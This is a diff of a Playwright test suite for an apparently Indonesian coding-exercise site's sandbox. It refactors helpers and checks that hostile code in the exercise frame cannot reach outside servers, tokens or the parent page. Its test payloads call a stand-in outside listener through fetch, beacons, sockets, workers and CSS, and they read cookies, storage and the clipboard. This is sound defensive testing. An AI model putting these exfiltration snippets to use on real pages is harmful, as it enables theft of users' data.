@@ -1,74 +1,11 @@
-import { createServer, type Server } from 'node:http'
-import type { AddressInfo } from 'node:net'
-import type { Page, Request } from '@playwright/test'
-import { enrollNewStudent } from './courses.ts'
-import { publishExercise } from './exercises.ts'
-import { expect, ready, test, thorough } from './test.ts'
+import { expectUnharmed, listenOutside, runHostile } from './hostile-code.ts'
+import { expect, test, thorough } from './test.ts'
 
 // Hostile code of a teacher or a learner, in a real browser: it reaches no server, no token, no other frame, and stops.
 
 test.use({ serviceWorkers: 'block', expectedConsoleErrors: [/./] })
 
-let spy: Server
-let spyUrl: string
-const received: string[] = []
-test.beforeAll(async () => {
-  spy = createServer((request, response) => {
-    received.push(request.url ?? '')
-    response.setHeader('access-control-allow-origin', '*').end('ok')
-  })
-  await new Promise<void>((resolve) => spy.listen(0, '127.0.0.1', resolve))
-  spyUrl = `http://127.0.0.1:${(spy.address() as AddressInfo).port}`
-})
-test.afterAll(() => new Promise((resolve) => spy.close(resolve)))
-test.beforeEach(() => void received.splice(0))
-
-/** What the frame has asked the network for; `csp` is the browser's word for what its policy kept back. */
-function logFrameRequests(page: Page) {
-  const sent = new Map<Request, string>()
-  page.on('request', (request) => {
-    const { pathname, protocol, href } = new URL(request.url())
-    const isOfFrame = request.frame() !== page.mainFrame() && pathname !== '/exercise-frame'
-    if ((isOfFrame || href.startsWith(spyUrl)) && !['data:', 'blob:', 'about:'].includes(protocol))
-      sent.set(request, `${request.method()} ${href}`)
-  })
-  page.on('requestfailed', (request) => request.failure()?.errorText === 'csp' && sent.delete(request))
-  return () => [...sent.values()]
-}
-
-type Language = 'web' | 'javascript'
-const fileOf = { web: 'index.html', javascript: 'utama.js' }
-
-async function runHostile(
-  page: Page,
-  request: Parameters<typeof publishExercise>[0],
-  language: Language,
-  text: string,
-) {
-  const exercise = await publishExercise(request, 'Kelas jahat', {
-    language,
-    files: [{ path: fileOf[language], text }],
-    tests: "tes('selesai', () => harap(1).sama(1))",
-  })
-  await enrollNewStudent(page, exercise.id)
-  await page.goto(exercise.url)
-  await ready(page)
-  const listSent = logFrameRequests(page)
-  await page.getByRole('tab', { name: 'Kode' }).click()
-  await page.getByRole('button', { name: 'Jalankan' }).click()
-  return { url: exercise.url, listSent }
-}
-
-/** The page is as it was and answers, and neither an outside server nor the log of the network has anything from the frame. */
-async function expectUnharmed(page: Page, { url, listSent }: Awaited<ReturnType<typeof runHostile>>) {
-  await expect(page).toHaveURL(url)
-  await expect(page).toHaveTitle(/Latihan menjumlah/)
-  await page.getByRole('tab', { name: 'Tugas' }).click()
-  await expect(page.getByText('Jumlahkan dua angka.')).toBeVisible()
-  expect(page.context().pages()).toHaveLength(1)
-  await expect.poll(listSent).toEqual([])
-  expect(received).toEqual([])
-}
+const { outside, received } = listenOutside()
 
 test(
   'a hostile page sends nothing, reads nothing of the site, and changes nothing outside of its frame',
@@ -78,16 +15,16 @@ test(
     const attack = (name: string, code: string) =>
       `try { await (async () => { ${code} })(); hasil.push('${name}') } catch { hasil.push('${name} ditolak') }`
     const html = `<!doctype html><html><head><title>Dicuri</title>
-    <meta http-equiv="refresh" content="0;url=${spyUrl}/meta">
-    <link rel="prefetch" href="${spyUrl}/prefetch"><link rel="preconnect" href="${spyUrl}"><link rel="stylesheet" href="${spyUrl}/gaya">
-    <style>@import url(${spyUrl}/impor); body { background: url(${spyUrl}/latar) } @font-face { font-family: x; src: url(${spyUrl}/huruf) } p { font-family: x }</style>
-    </head><body><p>a</p><img src="${spyUrl}/gambar"><iframe src="${spyUrl}/bingkai"></iframe>
-    <form id="f" action="${spyUrl}/formulir" method="post"><input name="a"></form><a id="a" href="${spyUrl}/tautan" target="_top">a</a>
+    <meta http-equiv="refresh" content="0;url=${outside()}/meta">
+    <link rel="prefetch" href="${outside()}/prefetch"><link rel="preconnect" href="${outside()}"><link rel="stylesheet" href="${outside()}/gaya">
+    <style>@import url(${outside()}/impor); body { background: url(${outside()}/latar) } @font-face { font-family: x; src: url(${outside()}/huruf) } p { font-family: x }</style>
+    </head><body><p>a</p><img src="${outside()}/gambar"><iframe src="${outside()}/bingkai"></iframe>
+    <form id="f" action="${outside()}/formulir" method="post"><input name="a"></form><a id="a" href="${outside()}/tautan" target="_top">a</a>
     <script>
     const hasil = [];
     (async () => {
       // First: an inner frame that runs answers during what follows.
-      const dalam = "<script>parent.postMessage('jalan ' + typeof RTCPeerConnection, '*'); fetch('${spyUrl}/dalam'); new Image().src = '${spyUrl}/dalam2'</scr" + "ipt>";
+      const dalam = "<script>parent.postMessage('jalan ' + typeof RTCPeerConnection, '*'); fetch('${outside()}/dalam'); new Image().src = '${outside()}/dalam2'</scr" + "ipt>";
       const bingkaiJs = "javascript:parent.postMessage('jalan', '*')";
       const kutip = dalam.replaceAll('<', '&lt;').replaceAll('"', '&quot;');
       const bingkai = () => document.body.appendChild(document.createElement('iframe'));
@@ -118,17 +55,17 @@ test(
         () => hasil.push('bingkai kosong ' + typeof bingkai().contentWindow.RTCPeerConnection),
         () => hasil.push('aturan ' + trustedTypes.createPolicy('lain', { createHTML: (a) => a })),
       ]) try { code() } catch {}
-      ${attack('fetch', `await fetch('${spyUrl}/fetch')`)}
+      ${attack('fetch', `await fetch('${outside()}/fetch')`)}
       ${attack('fetch situs', "await fetch('/api/me')")}
-      ${attack('beacon', `navigator.sendBeacon('${spyUrl}/beacon'); throw 'whether it was sent is seen outside'`)}
-      ${attack('xhr', `const x = new XMLHttpRequest(); x.open('GET', '${spyUrl}/xhr', false); x.send()`)}
-      ${attack('gambar', `await new Promise((a, b) => { const i = new Image(); i.onload = a; i.onerror = b; i.src = '${spyUrl}/gambar2' })`)}
-      ${attack('soket', `await new Promise((a, b) => { const w = new WebSocket('${spyUrl.replace('http', 'ws')}/soket'); w.onopen = a; w.onerror = b })`)}
-      ${attack('peristiwa', `await new Promise((a, b) => { const w = new EventSource('${spyUrl}/peristiwa'); w.onopen = a; w.onerror = b })`)}
+      ${attack('beacon', `navigator.sendBeacon('${outside()}/beacon'); throw 'whether it was sent is seen outside'`)}
+      ${attack('xhr', `const x = new XMLHttpRequest(); x.open('GET', '${outside()}/xhr', false); x.send()`)}
+      ${attack('gambar', `await new Promise((a, b) => { const i = new Image(); i.onload = a; i.onerror = b; i.src = '${outside()}/gambar2' })`)}
+      ${attack('soket', `await new Promise((a, b) => { const w = new WebSocket('${outside().replace('http', 'ws')}/soket'); w.onopen = a; w.onerror = b })`)}
+      ${attack('peristiwa', `await new Promise((a, b) => { const w = new EventSource('${outside()}/peristiwa'); w.onopen = a; w.onerror = b })`)}
       ${attack('webrtc', 'new RTCPeerConnection()')}
-      ${attack('impor', `await import('${spyUrl}/modul.js')`)}
-      ${attack('pekerja', `await new Promise((a, b) => { const w = new Worker('${spyUrl}/pekerja.js'); w.onmessage = a; w.onerror = b })`)}
-      ${attack('pekerja blob', `await new Promise((a, b) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('${spyUrl}/blob').then(() => postMessage(1), () => postMessage(0))"]))); w.onmessage = ({ data }) => (data ? a() : b()); w.onerror = b })`)}
+      ${attack('impor', `await import('${outside()}/modul.js')`)}
+      ${attack('pekerja', `await new Promise((a, b) => { const w = new Worker('${outside()}/pekerja.js'); w.onmessage = a; w.onerror = b })`)}
+      ${attack('pekerja blob', `await new Promise((a, b) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('${outside()}/blob').then(() => postMessage(1), () => postMessage(0))"]))); w.onmessage = ({ data }) => (data ? a() : b()); w.onerror = b })`)}
       ${attack('service worker', "await navigator.serviceWorker.register('/sw.js')")}
       ${attack('penyimpanan', 'localStorage.length')}
       ${attack('kuki', 'document.cookie')}
@@ -137,16 +74,19 @@ test(
       ${attack('induk', 'parent.document.title')}
       ${attack('induk penyimpanan', 'top.localStorage.length')}
       ${attack('papan klip', 'await navigator.clipboard.readText()')}
+      ${attack('papan klip tulis', "await navigator.clipboard.writeText('curian')")}
+      ${attack('papan klip salin', "document.execCommand('selectAll'); if (!document.execCommand('copy')) throw 0")}
+      ${attack('riwayat', "const n = history.length; history.pushState({}, '', '/curian'); History.prototype.replaceState.call(history, {}, '', '/curian'); if (history.length === n) throw 0")}
       ${attack('memori bersama', 'new SharedArrayBuffer(1)')}
       ${attack('eval', "eval('1')")}
-      ${attack('jendela', `if (!window.open('${spyUrl}/jendela')) throw 0`)}
-      for (const code of [() => f.submit(), () => a.click(), () => (top.location = '${spyUrl}/atas'), () => (document.domain = 'x'), () => alert(1), () => print()]) try { code() } catch {}
+      ${attack('jendela', `if (!window.open('${outside()}/jendela')) throw 0`)}
+      for (const code of [() => f.submit(), () => a.click(), () => (top.location = '${outside()}/atas'), () => (document.domain = 'x'), () => history.back(), () => history.go(-1), () => (document.title = 'Dicuri'), () => alert(1), () => print()]) try { code() } catch {}
       parent.postMessage({ nonce: 'x', run: 1, message: { kind: 'done' } }, '*')
-      const gaya = document.createElement('style'); gaya.textContent = "body { background: url(${spyUrl}/gaya2) }"; document.head.append(gaya)
+      const gaya = document.createElement('style'); gaya.textContent = "body { background: url(${outside()}/gaya2) }"; document.head.append(gaya)
       console.log('HASIL ' + hasil.join(','))
     })()
     </script></body></html>`
-    const run = await runHostile(page, request, 'web', html)
+    const run = await runHostile({ page, request, outside: outside() }, 'web', html)
     const report = page.getByText(/^HASIL /)
     await expect(report).toBeVisible()
     const listSucceeded = async () =>
@@ -155,13 +95,13 @@ test(
         .split(',')
         .filter((name) => !name.endsWith('ditolak'))
     await expect.poll(listSucceeded).toEqual([])
-    await expectUnharmed(page, run)
+    await expectUnharmed(page, run, received)
   },
 )
 
 // What the policy of the page lets its own frames open is refused to code as well.
 for (const [name, code] of [
-  ['another site', () => `location = '${spyUrl}/pergi'`],
+  ['another site', () => `location = '${outside()}/pergi'`],
   ['a video host', () => "location = 'https://www.youtube-nocookie.com/embed/x?curian=1'"],
   ['the site itself', () => "location = '/'"],
   ['a call of the site', () => "location.assign('/api/me')"],
@@ -178,29 +118,28 @@ for (const [name, code] of [
 ] as const)
   test(`a page that opens ${name} sends nothing and is closed with a sentence`, thorough, async ({ page, request }) => {
     const run = await runHostile(
-      page,
-      request,
+      { page, request, outside: outside() },
       'web',
       `<p>a</p><script>requestAnimationFrame(() => { ${code()} })</script>`,
     )
-    await expect(page.getByText(/mencoba membuka halaman lain|Semua 1 tes lulus/)).toBeVisible()
-    await expectUnharmed(page, run)
+    await expect(page.getByText(/mencoba membuka halaman lain|Semua 1 tes lulus/).first()).toBeVisible()
+    await expectUnharmed(page, run, received)
   })
 
 test('hostile code in a worker sends nothing and finds no token', thorough, async ({ page, request }) => {
   const code = `const hasil = []
     for (const [nama, coba] of Object.entries({
-      xhr() { const x = new XMLHttpRequest(); x.open('GET', '${spyUrl}/xhr', false); x.send() },
-      impor() { importScripts('${spyUrl}/impor.js') },
+      xhr() { const x = new XMLHttpRequest(); x.open('GET', '${outside()}/xhr', false); x.send() },
+      impor() { importScripts('${outside()}/impor.js') },
       penyimpanan() { localStorage.length },
       induk() { parent.document },
       memori() { new SharedArrayBuffer(1) },
       fungsi() { new Function('return 1')() },
     })) try { coba(); hasil.push(nama) } catch {}
-    fetch('${spyUrl}/fetch').then(() => console.log('BOCOR'), () => console.log('HASIL ' + hasil.join(',')))`
-  const run = await runHostile(page, request, 'javascript', code)
+    fetch('${outside()}/fetch').then(() => console.log('BOCOR'), () => console.log('HASIL ' + hasil.join(',')))`
+  const run = await runHostile({ page, request, outside: outside() }, 'javascript', code)
   await expect(page.getByText(/^HASIL\s*$/)).toBeVisible()
-  await expectUnharmed(page, run)
+  await expectUnharmed(page, run, received)
 })
 
 for (const [name, language, code, sentence] of [
@@ -247,7 +186,7 @@ for (const [name, language, code, sentence] of [
   ['broken HTML', 'web', '<<p><div </span><table><h1>Halo<script>', /1 dari 1|Semua 1 tes lulus/],
 ] as const)
   test(`${name} ends in a sentence`, thorough, async ({ page, request }) => {
-    const run = await runHostile(page, request, language, code)
-    await expect(page.getByText(sentence).first()).toBeVisible({ timeout: 15_000 })
-    await expectUnharmed(page, run)
+    const run = await runHostile({ page, request, outside: outside() }, language, code)
+    await expect(page.getByText(sentence).first()).toBeVisible()
+    await expectUnharmed(page, run, received)
   })
